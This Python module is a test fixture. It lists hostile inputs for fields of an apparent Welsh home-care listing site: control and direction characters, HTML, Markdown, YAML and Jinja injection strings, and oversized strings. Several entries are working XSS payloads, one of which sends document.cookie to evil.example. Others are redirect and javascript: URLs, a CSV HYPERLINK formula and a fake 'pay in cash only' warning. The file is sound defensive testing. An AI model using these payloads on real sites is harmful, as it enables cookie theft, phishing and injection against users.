"""What a hostile editor would write into a field, each with a name the expected files use."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A value to put in a field. ``block``: also write it as a YAML block (``|``)."""

    name: str
    value: str
    block: bool = False


def _characters() -> list[Attack]:
    """Every C0 and C1 control character and DEL; direction, zero-width and separator
    characters; and two that are not characters at all. Each between ordinary words."""
    controls = [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]
    others = {
        "bidi": [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C],
        "invisible": [0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x3164, 0xE0041],
        "separator": [0x2028, 0x2029],
        "not-a-character": [0xFFFE, 0xFFFF],
    }
    found = [Attack(f"control-{code:02x}", f"Good care{chr(code)}[2K here") for code in controls]
    for kind, codes in others.items():
        found += [Attack(f"{kind}-{code:04x}", f"Good {chr(code)}erac here") for code in codes]
    return found


_MARKUP = {
    "quotes": "Tom's \"best\" care & 'support' — O'Brien's",
    "angle-brackets": "1 < 2 > 0 <b>bold</b> & <i>",
    "script": "<script>alert('x')</script>",
    "script-close": "</script><script>fetch('https://evil.example/'+document.cookie)</script>",
    "image": '<img src="https://evil.example/track.gif" onerror="alert(1)">',
    "attribute-break": '" onmouseover="alert(1)" data-x="',
    "attribute-break-single": "' autofocus onfocus='alert(1)' x='",
    "tag-in-attribute": '"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "title-break": "</title><script>alert(1)</script>",
    "comment": "<!-- hidden --> --> <!--",
    "cdata": "]]><evil/><![CDATA[ x ]]>",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &#x3C; &nbsp; &unknown;",
    "markdown-emphasis": "**bold** __strong__ *em* _em_ ~~gone~~ `code`",
    "markdown-link": "[Pay here](https://evil.example/pay) <https://evil.example/> [x][1]",
    "markdown-image": "![tracker](https://evil.example/pixel.png)",
    "markdown-reference": "[1]: https://evil.example/ 'Title'",
    "markdown-heading": "# Council warning: pay in cash only",
    "markdown-quote": "> Council warning: pay in cash only",
    "markdown-list": "- one\n- two",
    "markdown-table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "markdown-rule": "***",
    "markdown-escape": "\\*not em\\* \\<b\\> \\\\ \\`",
    "attr-list": 'Care {: .evil onclick="alert(1)" } {#id .class style="display:none"}',
    "attr-list-alone": '{: onclick="alert(1)" }',
    "html-block": '<div markdown="1">*x*</div>',
    "front-matter": "---",
    "front-matter-block": "---\ntitle: Evil\nhooks: [x]\n---",
    "document-end": "...",
    "yaml-in-text": "published: true\nname: Someone Else",
    "jinja": "{{ config }} {% for x in y %}{# #}{{ '<b>' | safe }}",
    "line-break-warning": "Good care.\n> Council warning: pay in cash only.",
    "paragraphs": "First paragraph.\n\nSecond paragraph.",
    "crlf-words": "Good\r\ncare",
    "javascript-url": "javascript:alert(document.domain)",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "url-attack": 'https://evil.example/"onmouseover="alert(1)',
    "mailto-attack": "help@example.org?cc=thief@evil.example&body=Send%20cash",
    "csv-formula": '=HYPERLINK("https://evil.example","Click")',
    "csv-plus": "+44 1632 960001",
    "csv-at": "@SUM(A1:A9)",
    "json-break": '"}]; alert(1); //',
    "unicode-line-terminators-as-text": "\\u2028 \\L \\x1b",
    "email-unusual": "O.Brien+Gofal_Cymru-1@Example.ORG",
    "email-welsh": "ŵyn@example.org",
    "website-query": "https://example.org/gofal?lang=cy&page=2#cyswllt",
    "website-encoded": "https://EXAMPLE.org:8443/%3Cb%3E/(x)/~y;z",
    "phone-written-oddly": "+44 (0)7700-900-123",
    "welsh": "Tŷ Ŵyn: â ê î ô û ŵ ŷ — gofal yng Nghymru",
    "combining": "Ty\u0302 Twt and Cafe\u0301",
    "emoji": "Care 👩‍⚕️ with 🏡 and 🇬🇧",
    "right-to-left": "رعاية منزلية (home care) שירות",
    "cjk": "居家护理 ホームケア",
    "wide-letters": "ＦＵＬＬ ｗｉｄｔｈ",
}


def _pathological(max_length: int) -> list[Attack]:
    """Strings made to be slow, long, or both, within and just beyond the field's limit."""
    room = max_length - 2
    return [
        Attack("longest", "A" * max_length),
        Attack("too-long", "A" * (max_length + 1)),
        Attack("spaces-after-angle", "<" + " " * room + "1"),
        Attack("brackets", "[" * room + "x"),
        Attack("stars", "*" * room + "x"),
        Attack("backslashes", "\\" * room + "x"),
        Attack("entity-starts", ("&#" * room)[:room] + "x"),
        Attack("combining-marks", "a" + "\u0301" * room),
    ]


def attacks(max_length: int) -> list[Attack]:
    """Every attack on a field that may hold ``max_length`` characters."""
    markup = [Attack(name, value, block="\n" in value) for name, value in _MARKUP.items()]
    markup.append(Attack("one-line-block", "Friendly care in Mold.", block=True))
    return _characters() + markup + _pathological(max_length)
